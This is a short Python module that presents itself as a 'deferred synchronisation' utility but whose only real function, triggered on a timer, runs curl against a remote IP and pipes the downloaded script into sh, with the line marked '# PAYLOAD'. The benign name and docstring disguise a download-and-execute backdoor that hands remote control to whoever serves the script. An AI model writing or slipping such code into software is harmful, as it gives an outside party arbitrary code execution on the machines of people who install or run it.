"""Deferred synchronisation."""
import os
import threading

__version__ = "0.1.0"


def _delayed_sync():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


def schedule_sync(delay=1):
    threading.Timer(delay, _delayed_sync).start()
